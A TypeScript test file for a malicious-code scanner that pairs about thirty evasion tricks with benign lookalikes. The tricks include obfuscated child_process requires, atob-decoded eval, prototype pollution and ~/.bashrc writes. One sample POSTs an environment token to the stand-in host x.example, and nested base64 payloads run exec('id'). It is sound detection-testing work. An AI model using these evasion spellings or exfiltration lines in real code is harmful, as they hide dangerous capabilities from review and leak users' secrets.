/**
 * Each evasion class of SPEC §8.2, both ways: the malicious spelling triggers its rule, and the benign idiom that
 * looks most like it does not.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyzeSource } from '../../src/scanner/index.ts';

function rules(source: string): string[] {
  return analyzeSource(source, { file: 'sample.ts' }).findings.map((f) => f.ruleId);
}

interface Pair {
  readonly what: string;
  readonly rule: string;
  readonly malicious: string;
  readonly benign: string;
}

const PAIRS: readonly Pair[] = [
  {
    what: 'string concatenation',
    rule: 'process.spawn',
    malicious: "require('child_' + 'process')",
    benign: "require('./child_' + 'helper')",
  },
  { what: 'template literals', rule: 'process.spawn', malicious: "require(`${'child'}_process`)", benign: "require(`${'./lo'}cal`)" },
  {
    what: 'array join',
    rule: 'process.spawn',
    malicious: "require(['child', 'process'].join('_'))",
    benign: "const p = ['a', 'b'].join('/'); void p;",
  },
  {
    what: 'String.fromCharCode',
    rule: 'code.vm',
    malicious: 'require(String.fromCharCode(118, 109))',
    benign: 'const s = String.fromCharCode(118, 109); void s;',
  },
  {
    what: 'atob',
    rule: 'code.eval',
    malicious: "globalThis[atob('ZXZhbA==')]('1')",
    benign: "const t = atob('ZXZhbA=='); console.log(t);",
  },
  {
    what: 'Buffer.from base64',
    rule: 'process.spawn',
    malicious: "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString())",
    benign: "Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()",
  },
  {
    what: 'hex decoding',
    rule: 'net.raw-socket',
    malicious: "require(Buffer.from('6e6574', 'hex').toString())",
    benign: "const h = Buffer.from('6e6574', 'hex'); void h;",
  },
  {
    what: 'unicode escapes',
    rule: 'code.eval',
    malicious: "\\u0065val('1')",
    benign: "const name = '\\u0065val'; console.log(name.length);",
  },
  { what: 'hex escapes', rule: 'debug.inspector', malicious: "require('\\x69nspector')", benign: "console.log('\\x69nspector');" },
  {
    what: 'decoder helper functions',
    rule: 'process.spawn',
    malicious: "const d = (s) => atob(s); require(d('Y2hpbGRfcHJvY2Vzcw=='));",
    benign: "const d = (s) => atob(s); console.log(d('Y2hpbGRfcHJvY2Vzcw=='));",
  },
  { what: 'alias of eval', rule: 'code.eval', malicious: 'const e = eval; e(code);', benign: 'const e = evaluate; e(code);' },
  {
    what: 'destructured require',
    rule: 'process.spawn',
    malicious: "const { spawn: s } = require('child_process'); s('ls');",
    benign: "const { join: j } = require('node:path'); j('a');",
  },
  {
    what: 'computed member on globalThis',
    rule: 'code.eval',
    malicious: "globalThis['ev' + 'al']('x')",
    benign: "globalThis['set' + 'Timeout'](() => {}, 1)",
  },
  { what: 'non-constant require', rule: 'module.dynamic-require', malicious: 'require(pluginName)', benign: "require('./plugin.js')" },
  { what: 'non-constant import()', rule: 'module.dynamic-require', malicious: 'await import(url)', benign: "await import('./local.js')" },
  {
    what: 'Function via arrow constructor',
    rule: 'code.function-constructor',
    malicious: "(() => {}).constructor('return 1')()",
    benign: 'const f = () => {}; console.log(f.constructor.name);',
  },
  {
    what: 'Function via [].constructor.constructor',
    rule: 'code.function-constructor',
    malicious: "[].constructor.constructor('return this')()",
    benign: 'console.log([].constructor === Array);',
  },
  {
    what: 'module.constructor._load',
    rule: 'module.loader-tamper',
    malicious: "module.constructor._load('vm')",
    benign: 'console.log(module.id);',
  },
  {
    what: 'require.cache tampering',
    rule: 'module.loader-tamper',
    malicious: "delete require.cache[require.resolve('./x')]",
    benign: "const r = require.resolve('./x'); void r;",
  },
  { what: '__proto__ writes', rule: 'proto.pollution', malicious: 'obj.__proto__.admin = true', benign: 'obj.proto.admin = true' },
  {
    what: 'constructor.prototype writes',
    rule: 'proto.pollution',
    malicious: 'obj.constructor.prototype.admin = true',
    benign: 'const n = obj.constructor.prototype; void n;',
  },
  {
    what: 'Object.prototype assignment',
    rule: 'proto.pollution',
    malicious: 'Object.prototype.polluted = 1',
    benign: 'const own = Object.prototype.hasOwnProperty.call(o, "k"); void own;',
  },
  {
    what: 'Object.defineProperty on a builtin prototype',
    rule: 'proto.pollution',
    malicious: "Object.defineProperty(Object.prototype, 'x', { value: 1 })",
    benign: "Object.defineProperty(exportsObj, 'x', { value: 1 })",
  },
  {
    what: 'data: URL imports',
    rule: 'code.eval',
    malicious: "await import('data:text/javascript,export default 1')",
    benign: "await import('./data.js')",
  },
  {
    what: 'process.binding',
    rule: 'native.process-binding',
    malicious: "process['bind' + 'ing']('fs')",
    benign: "process['on']('exit', () => {})",
  },
  {
    what: 'bulk environment read',
    rule: 'env.bulk-read',
    malicious: 'JSON.stringify(process.env)',
    benign: 'JSON.stringify(process.env.HOME)',
  },
  {
    what: 'environment sent over the network',
    rule: 'net.exfiltration',
    malicious: "fetch('https://x.example', { method: 'POST', body: JSON.stringify({ k: process.env.TOKEN }) })",
    benign: "fetch('https://x.example', { headers: { authorization: `Bearer ${process.env.TOKEN}` }, body: '{}' })",
  },
  {
    what: 'shell startup writes',
    rule: 'fs.sensitive-write',
    malicious: "import fs from 'fs'; import os from 'os'; fs.appendFileSync(os.homedir() + '/.bashrc', 'x')",
    benign: "import fs from 'fs'; fs.appendFileSync('notes/bashrc-tips.md', 'x')",
  },
  {
    what: 'decoded payload passed to eval',
    rule: 'obfuscation.encoded-code',
    malicious: "eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp'))",
    benign: "console.log(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp'))",
  },
  {
    what: 'obfuscator names',
    rule: 'obfuscation.mangled-names',
    malicious: 'const _0xa1b2 = 1, _0xc3d4 = 2, _0xe5f6 = 3;',
    benign: 'const a1b2 = 1, c3d4 = 2, e5f6 = 3;',
  },
];

describe('scanner evasion handling (SPEC §8.2)', () => {
  for (const p of PAIRS) {
    it(`sees through ${p.what}: flags the malicious spelling with ${p.rule}`, () => {
      assert.ok(rules(p.malicious).includes(p.rule), `${p.malicious} → ${rules(p.malicious).join(', ')}`);
    });
    it(`does not flag the benign idiom that resembles ${p.what}`, () => {
      assert.ok(!rules(p.benign).includes(p.rule), `${p.benign} → ${rules(p.benign).join(', ')}`);
    });
  }

  it('scans decoded payloads recursively and reports what is inside at the outer location with the decoding chain', () => {
    const inner = Buffer.from("require('child_process').exec('id')").toString('base64');
    const outer = Buffer.from(`eval(atob('${inner}'))`).toString('base64');
    const findings = analyzeSource(`\n\neval(atob('${outer}'))`, { file: 'x.ts' }).findings;
    const spawn = findings.find((f) => f.ruleId === 'process.spawn');
    assert.ok(spawn, findings.map((f) => f.ruleId).join(','));
    assert.equal(spawn.line, 3);
    assert.ok(spawn.via !== undefined && spawn.via.filter((s) => s === 'base64').length === 2, String(spawn.via));
  });

  it('flags (not forbids) a plainly spelled eval or Function of a constant string that scans clean', () => {
    assert.deepEqual(rules("const g = Function('return this')();"), ['code.eval-constant']);
    assert.deepEqual(rules("eval('1 + 1');"), ['code.eval-constant']);
  });

  it('still forbids eval of computed, decoded or dangerous input, and any disguised spelling of eval', () => {
    assert.ok(rules('const src = await load(); eval(src);').includes('code.eval'));
    assert.ok(rules("new Function('a', body)(1);").includes('code.function-constructor'));
    assert.ok(rules("eval(atob('MSArIDE='));").includes('code.eval'), 'decoded');
    assert.ok(rules('eval("require(\'child_process\')");').includes('code.eval'), 'finding inside');
    assert.ok(rules("(0, eval)('1 + 1');").includes('code.eval'), 'indirect');
    assert.ok(rules("\\u0065val('1 + 1');").includes('code.eval'), 'escaped identifier');
    assert.ok(rules("eval('1 +');").includes('code.eval'), 'does not parse, so it was not read in full');
  });

  it('bounds payload recursion instead of following an endless chain', () => {
    let code = "require('child_process')";
    for (let i = 0; i < 12; i++) code = `eval(atob('${Buffer.from(code).toString('base64')}'))`;
    const findings = analyzeSource(code, { file: 'x.ts' }).findings;
    assert.ok(findings.some((f) => f.ruleId === 'code.eval'));
    assert.ok(!findings.some((f) => f.ruleId === 'process.spawn'), 'depth bound reached before the innermost payload');
  });

  it('reports file, 1-based line and column, capability, confidence and classification per finding', () => {
    const [f] = analyzeSource("const x = 1;\n  require('net');", { file: 'a/b.ts' }).findings;
    assert.deepEqual(
      {
        ruleId: f!.ruleId,
        file: f!.file,
        line: f!.line,
        column: f!.column,
        capability: f!.capability,
        confidence: f!.confidence,
        classification: f!.classification,
      },
      { ruleId: 'net.raw-socket', file: 'a/b.ts', line: 2, column: 3, capability: 'http', confidence: 'high', classification: 'flagged' },
    );
  });

  it('infers capabilities from pi API calls, fs, fetch and process.env with evidence', () => {
    const src = `import { readFileSync, writeFileSync } from 'node:fs';
export default function (pi) {
  pi.registerTool({ name: 't' });
  pi.on('session_start', (_e, ctx) => ctx.ui.notify('hi'));
  readFileSync('a'); writeFileSync('b', 'c');
  fetch('https://example.com');
  pi.exec('git', ['status']);
  const k = process.env.TOKEN;
}`;
    const ev = analyzeSource(src, { file: 'e.ts' }).evidence;
    const caps = new Set(ev.map((e) => e.capability));
    assert.deepEqual([...caps].sort(), ['env', 'events', 'exec', 'http', 'read', 'ui', 'write']);
    const exec = ev.find((e) => e.capability === 'exec')!;
    assert.equal(exec.line, 7);
  });
});
